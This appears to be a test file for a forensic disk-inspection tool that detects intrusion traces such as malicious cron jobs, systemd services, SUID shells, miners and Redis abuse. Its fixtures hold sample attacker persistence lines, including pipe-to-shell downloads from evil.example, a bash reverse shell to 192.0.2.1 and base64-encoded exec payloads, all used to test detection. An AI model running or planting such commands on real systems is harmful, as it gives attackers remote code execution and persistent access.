"""``rescue inspect`` as a user runs it: what was on the disk, what was done to it, and nothing about a clean one."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest

from redkeep.rescue.inspection.settings import read_settings, shown
from tests.cli import Redkeep
from tests.rescue import disks, victim


@pytest.fixture(scope="module")
def clean(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return victim.clean(tmp_path_factory.mktemp("clean") / "root")


@pytest.fixture(scope="module")
def infected(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = victim.infected(victim.clean(tmp_path_factory.mktemp("infected") / "root"))
    if disks.program("db5.3_load"):
        headers = [victim.rpm_header(f"package{i}", "1.0", "2.el7") for i in range(30)]
        victim.berkeley(root / "var/lib/rpm/Packages", headers)
    return root


@pytest.fixture(scope="module")
def image(infected: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    where = tmp_path_factory.mktemp("image")
    return disks.partitioned(where / "disk.img", ("83", disks.ext4(infected, where / "root")))


@pytest.fixture(scope="module")
def report(image: Path, tmp_path_factory: pytest.TempPathFactory) -> Any:
    run = Redkeep(tmp_path_factory.mktemp("run"))
    before = _digest(image)
    told = run("rescue", "inspect", str(image), "--json")
    assert told.status == 3, told.everything
    assert _digest(image) == before
    return told.json


def _digest(path: Path) -> str:
    with path.open("rb") as file:
        return hashlib.file_digest(file, "sha256").hexdigest()


def test_a_clean_centos_is_silent(clean: Path, tmp_path: Path) -> None:
    document = Redkeep(tmp_path)("rescue", "inspect", str(clean), "--json").ok().json
    assert document["intrusion"] == []
    assert document["not_looked_at"]


#: As people and clouds have them: tools in hidden directories, locks and logs in /tmp, Tencent Cloud's and Alibaba's agents.
HARMLESS_CRON = """
root /root/.acme.sh/acme.sh --cron --home /root/.acme.sh > /dev/null
root /home/app/.venv/bin/python /srv/job.py
root cd /srv/app && php artisan schedule:run >> /dev/null 2>&1
root flock -xn /tmp/stargate.lock -c '/usr/local/qcloud/stargate/admin/start.sh > /dev/null 2>&1 &'
root curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/uuid
root find /tmp/cache -name '*.log' -mtime +7 -delete
root /usr/local/cloudmonitor/CmsGoAgent.linux-amd64 >/tmp/cm.log 2>&1
root cd /tmp && /usr/bin/certbot renew
app /home/app/.nvm/versions/node/v18/bin/pm2 resurrect
root wget -q http://10.0.0.3/api/cron.php -O /dev/null
"""
HARMLESS_SERVICES = """
/home/app/.venv/bin/gunicorn app:app
/home/app/.rbenv/shims/bundle exec puma
/root/.nvm/versions/node/v16.1.0/bin/node /srv/a.js
/home/app/.local/bin/uvicorn main:app
/bin/bash -lc 'exec /srv/run.sh > /tmp/out.log'
/bin/sh -c 'rm -f /tmp/app.sock; exec /srv/app'
/usr/bin/java -Djava.io.tmpdir=/tmp/app -jar /srv/a.jar
/usr/bin/docker run -v /tmp/x:/tmp/x img
"""


def test_what_people_and_clouds_run_is_no_sign(tmp_path: Path) -> None:
    root = victim.clean(tmp_path / "root")
    lines = HARMLESS_CRON.strip().splitlines()
    victim.put(root, "/etc/cron.d/all", "".join(f"*/5 * * * * {line}\n" for line in lines))
    spool = "".join(f"*/5 * * * * {line.split(maxsplit=1)[1]}\n" for line in lines)
    victim.put(
        root, "/var/spool/cron/root", f"{spool}*/5 * * * * rm -rf /tmp/cache/x\n@reboot touch /tmp/.booted\n"
    )
    for i, line in enumerate(HARMLESS_SERVICES.strip().splitlines()):
        unit = f"[Service]\nExecStartPre=-/bin/mkdir -p /tmp/{i}\nExecStart={line}\nExecStopPost=/bin/rm -f /tmp/{i}/x\n"
        victim.put(root, f"/etc/systemd/system/own-{i}.service", unit)
    victim.put(
        root,
        "/etc/rc.local",
        "#!/bin/bash\n/usr/local/qcloud/irq/net.sh >/tmp/net.log 2>&1\nrm -rf /tmp/cache\n",
    )
    victim.put(root, "/root/.bashrc", '. "/root/.cargo/env"\neval "$(/root/.rbenv/bin/rbenv init -)"\n')
    victim.put(root, "/etc/ld.so.preload", "/$LIB/libonion.so\n")
    for name in (
        "snappy-1.1.8-0a-libsnappyjava.so",
        "sqlite-3.36.0-0a-libsqlitejdbc.so",
        "libnetty_tcnative0a.so",
    ):
        victim.put(root, f"/tmp/{name}", b"\x7fELF", 0o755)
    document = Redkeep(tmp_path)("rescue", "inspect", str(root), "--json").ok().json
    assert [(f["subject"], f["evidence"]) for f in document["intrusion"]] == []


#: What published droppers and their successors write; ``evil.example`` is nobody.
CRON_OF_INTRUDERS = """
(curl -fsSL http://evil.example/b||wget -q -O- http://evil.example/b)|sh
/root/.configrc7/a/upd>/dev/null 2>&1
/dev/shm/rsync
python -c 'import base64;exec(base64.b64decode("aW1wb3J0"))'
python3 -c "import urllib.request as u;exec(u.urlopen('http://evil.example/x').read())"
wget -q -O /tmp/xx http://192.0.2.1/xx && sh /tmp/xx
curl -o /usr/bin/.sshd http://evil.example/a; chmod +x /usr/bin/.sshd; /usr/bin/.sshd
echo d2dldA== | base64 -d | bash
bash -c 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1'
cd /tmp && ./kthreadd
curl -s evil.example/x |sudo bash
"""
SERVICES_OF_INTRUDERS = """
ExecStart=/bin/sh /tmp/.x/run.sh
ExecStart=/usr/bin/true\\nExecStartPost=/bin/bash -c 'curl -s http://evil.example/a|bash'
ExecStart=/bin/bash -c "/var/tmp/kw --config=/var/tmp/c.json"
ExecStart=/root/.local2/.kswapd
ExecStart=-/etc/.x/kworker
"""


def test_what_intruders_leave_to_come_back(tmp_path: Path) -> None:
    root = victim.clean(tmp_path / "root")
    cron, services = CRON_OF_INTRUDERS.strip().splitlines(), SERVICES_OF_INTRUDERS.strip().splitlines()
    for i, line in enumerate(cron):
        victim.put(root, f"/etc/cron.d/c{i}", f"* * * * * root {line}\n")
        victim.put(root, f"/var/spool/cron/c{i}", f"@reboot {line}\n")
    for i, line in enumerate(services):
        victim.put(
            root, f"/etc/systemd/system/s{i}.service", "[Service]\n" + line.replace("\\n", "\n") + "\n"
        )
    victim.put(root, "/root/.config/systemd/user/u.service", "[Service]\nExecStart=/tmp/u\n")
    victim.put(root, "/etc/rc.local", "#!/bin/sh\nnohup /tmp/kinsingx >/dev/null 2>&1 &\n")
    victim.put(root, "/home/app/.bashrc", "/var/tmp/.b/bash &\n")
    told = Redkeep(tmp_path)("rescue", "inspect", str(root), "--json")
    assert told.status == 3
    found = {f["subject"] for f in told.json["intrusion"]}
    wanted = {f"/etc/cron.d/c{i}" for i in range(len(cron))} | {
        f"/var/spool/cron/c{i}" for i in range(len(cron))
    }
    wanted |= {f"/etc/systemd/system/s{i}.service" for i in range(len(services))}
    wanted |= {"/root/.config/systemd/user/u.service", "/etc/rc.local", "/home/app/.bashrc"}
    assert found == wanted


def test_the_system(report: Any) -> None:
    system = report["system"]
    assert system["name"] == "CentOS Linux 7 (Core)"
    assert system["hostname"] == "shop-1"
    users = {u["name"]: u for u in system["users"]}
    assert users["root"]["password"] == "set"
    assert users["app"]["password"] == "locked"
    assert users["app"]["logs_in"]
    assert not users["mysql"]["logs_in"]
    services = {s["name"]: s for s in report["services"]}
    assert services["shop.service"]["runs"].endswith("/home/app/shop.jar")
    assert services["shop.service"]["enabled"]
    assert report["partitions"][0]["kind"] == "ext4"


def test_passwords_that_cannot_be_read_are_unknown(tmp_path: Path) -> None:
    """As for somebody who may not read shadow(5)."""
    root = victim.clean(tmp_path / "root")
    (root / "etc/shadow").unlink()
    users = Redkeep(tmp_path)("rescue", "inspect", str(root), "--json").ok().json["system"]["users"]
    assert {u["password"] for u in users} == {"unknown"}


def test_packages_of_an_old_rpm(report: Any) -> None:
    disks.need("db5.3_load")
    packages = report["system"]["packages"]
    assert packages["manager"] == "rpm"
    assert packages["count"] == 30
    assert "package7 1.0-2.el7" in packages["installed"]


def test_sites_with_their_includes(report: Any) -> None:
    (site,) = report["sites"]
    assert site["names"] == ["shop.example", "www.shop.example"]
    assert site["roots"] == ["/usr/share/nginx/html"]
    assert site["aliases"] == [{"location": "/upload/", "path": "/data/upload/"}]
    assert {(p["location"], *p["servers"]) for p in site["proxies"]} == {
        ("/api/", "127.0.0.1:8080", "127.0.0.1:8081"),
        ("/admin/", "127.0.0.1:9090"),
    }
    assert [(u["path"], u["files"]) for u in site["uploads"]] == [("/data/upload/", 3)]
    (certificate,) = report["certificates"]
    assert certificate["names"] == ["shop.example"]
    assert certificate["expired"] is True
    assert certificate["key_state"] == "on the disk"


def test_applications_and_their_settings_as_text(report: Any) -> None:
    jar = next(a for a in report["applications"] if a["kind"] == "jar")
    assert jar["main"] == "example.Shop"
    parts = {p["file"]: {v["key"]: v for v in p["values"]} for p in jar["settings"]}
    main = parts["BOOT-INF/classes/application.yml"]
    assert main["spring.redis.password"] == {"key": "spring.redis.password", "secret": True, "characters": 4}
    assert main["spring.profiles.active"]["value"] == "@profileActive@"
    assert main["spring.datasource.password"]["value"] == "${DB_PASSWORD}"
    assert main["spring.redis.port"]["value"] == "6379"
    nested = parts["BOOT-INF/lib/shop-common-1.0.jar!/application-common.properties"]
    assert nested["jdbc.url"]["value"] == "jdbc:mysql://127.0.0.1/shop?password=(7 characters)&x=1"
    assert next(p for p in jar["settings"] if p["profile"] == "prod")
    text = json.dumps(report)
    for secret in ("hunter2", "topsecret", "phpsecret", "longer-secret", '"p w"'):
        assert secret not in text


def test_databases(report: Any) -> None:
    (database,) = report["databases"]
    assert (database["path"], database["flavor"], database["version"]) == (
        "/var/lib/mysql",
        "MySQL",
        "5.5.62",
    )
    assert database["state"] == "clean"
    shop = next(s for s in database["schemas"] if s["name"] == "shop")
    engines = {t["name"]: t["engine"] for t in shop["tables"]}
    assert engines == {"c": "InnoDB", "g": "InnoDB", "m": "MyISAM", "t": "InnoDB", "v": "view"}


def test_redis(report: Any) -> None:
    (config,) = report["redis"]["configurations"]
    assert "protected-mode no" in config["open"]
    files = {f["path"]: f for f in report["redis"]["files"]}
    dump = files["/var/lib/redis/dump.rdb"]
    assert (dump["rdb_version"], dump["keys"], dump["keys_exact"], dump["written_by"]) == (
        9,
        20,
        True,
        "5.0.7",
    )
    aof = files["/var/lib/redis/appendonly.aof"]
    assert aof["commands"] == 103
    assert [f["command"] for f in aof["flushes"]] == [102]
    assert files["/var/spool/cron/root"]["strange_place"]


SIGNS = {
    ("intrusion-preload", "/etc/ld.so.preload"),
    ("intrusion-cron", "/etc/cron.d/zzh"),
    ("intrusion-key-by-redis", "/root/.ssh/authorized_keys"),
    ("intrusion-known-file", "/tmp/kdevtmpfsi"),
    ("intrusion-known-file", "/etc/libsystem.so"),
    ("intrusion-known-name", "/usr/local/bin/xmrig"),
    ("intrusion-program-in-tmp", "/tmp/kdevtmpfsi"),
    ("intrusion-suid", "/var/tmp/.x/bash"),
    ("intrusion-suid", "/usr/bin/bash"),
    ("intrusion-root-user", "/etc/passwd"),
    ("intrusion-service", "/etc/systemd/system/bot.service"),
    ("intrusion-wiped-log", "/root/.bash_history"),
    ("intrusion-redis-file", "/var/spool/cron/root"),
    ("intrusion-redis-data", "/var/lib/redis/appendonly.aof"),
    ("intrusion-redis-data", "/var/spool/cron/root"),
    ("intrusion-redis-flush", "/var/lib/redis/appendonly.aof"),
    ("intrusion-open-redis", "/etc/redis.conf"),
}


def test_signs_of_the_break_in(report: Any) -> None:
    found = {(f["rule"], f["subject"]) for f in report["intrusion"]}
    assert found >= SIGNS, SIGNS - found
    told = [(f["rule"], f["subject"], f["evidence"]) for f in report["intrusion"]]
    assert len(told) == len(set(told)), "root and its double have one home"
    for finding in report["intrusion"]:
        assert {"severity", "evidence", "why", "fix", "confidence", "source"} <= set(finding)
    assert any("memory" in line for line in report["not_looked_at"])


def test_immutable_files_are_seen_in_an_image(infected: Path, tmp_path: Path) -> None:
    image = disks.ext4(infected, tmp_path / "disk")
    disks.need("debugfs")
    places = {"/var/spool/cron/root", "/root/.ssh", "/tmp/kdevtmpfsi", "/etc/cron.d"}
    for place in places:
        disks.run("debugfs", "-w", "-R", f"sif {place} flags 0x80010", image)
    document = Redkeep(tmp_path)("rescue", "inspect", str(image), "--json").json
    found = {f["subject"] for f in document["intrusion"] if f["rule"] == "intrusion-immutable"}
    assert found == places


def test_immutable_files_are_seen_where_a_disk_is_mounted(tmp_path: Path) -> None:
    root = victim.infected(victim.clean(tmp_path / "root"))
    places = [root / "root/.ssh", root / "etc/ld.so.preload"]
    try:
        if any(subprocess.run(["chattr", "+i", place], capture_output=True).returncode for place in places):
            pytest.skip("not here: chattr needs root, and a file system that has flags")
        document = Redkeep(tmp_path)("rescue", "inspect", str(root), "--json").json
        found = {f["subject"] for f in document["intrusion"] if f["rule"] == "intrusion-immutable"}
        assert found == {"/root/.ssh", "/etc/ld.so.preload"}
    finally:
        for place in places:
            subprocess.run(["chattr", "-i", place], capture_output=True)


def test_text_html_and_reveal(image: Path, tmp_path: Path) -> None:
    run = Redkeep(tmp_path)
    told = run("rescue", "inspect", str(image), "--html", "report.html")
    assert told.status == 3, told.everything
    assert "SIGNS OF A BREAK-IN" in told.stdout
    assert "present, 4 characters" in told.stdout
    page = (tmp_path / "report.html").read_text()
    assert "<script" not in page
    assert "kdevtmpfsi" in page
    assert victim.REDIS_SECRET not in page
    assert (tmp_path / "report.html").stat().st_mode & 0o777 == 0o600
    assert "hunter2" in run("rescue", "inspect", str(image), "--json", "--reveal").stdout


def test_the_report_is_not_written_into_the_evidence(clean: Path, tmp_path: Path) -> None:
    told = Redkeep(tmp_path)("rescue", "inspect", str(clean), "--html", str(clean / "report.html"))
    told.error(4, "into the evidence")


def test_rules_of_ones_own(infected: Path, tmp_path: Path) -> None:
    pytest.importorskip("yara")
    rules = tmp_path / "own.yar"
    rules.write_text('rule dropper { strings: $a = "192.0.2.66" condition: $a }\n')
    run = Redkeep(tmp_path)
    document = run("rescue", "inspect", str(infected), "--yara", str(rules), "--json").json
    found = {f["subject"] for f in document["intrusion"] if f["rule"] == "intrusion-yara"}
    assert {"/etc/cron.d/zzh", "/var/lib/redis/appendonly.aof"} <= found
    rules.write_text("no rule")
    run("rescue", "inspect", str(infected), "--yara", str(rules)).error(2, "do not compile")


def test_clean_debian_is_silent(tmp_path: Path) -> None:
    """The lab's bases, where they were built."""
    from tests.lab.bases import base_of, is_prepared

    if os.geteuid() != 0 or not is_prepared():
        pytest.skip("the lab's images are not built here")
    for name in ("bookworm", "trixie", "forky"):
        document = Redkeep(tmp_path)("rescue", "inspect", str(base_of(name)), "--json").ok().json
        assert document["intrusion"] == []


@pytest.mark.parametrize("words", [("nothing.img",), ("empty",), ("/dev/null",)])
def test_wrong_sources(tmp_path: Path, words: tuple[str, ...]) -> None:
    (tmp_path / "empty").touch()
    Redkeep(tmp_path)("rescue", "inspect", *words, "--json").error(2)


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("url=redis\\://\\:s3cret\\@db\\:6379\n", "redis://:(6 characters)@db:6379"),
        ("url=mysql://shop:s3\\\n    cret@db/shop\n", "mysql://shop:(6 characters)@db/shop"),
        ("url=C\\:\\\\data\\u0041\n", "C:\\dataA"),
    ],
)
def test_properties_are_read_as_java_reads_them(text: str, found: str) -> None:
    """Values that go on in the next line and escaped characters, so that a secret in them is seen as one."""
    (value,) = read_settings("application.properties", text).values()
    assert shown("url", value, reveal=False) == {"key": "url", "value": found}
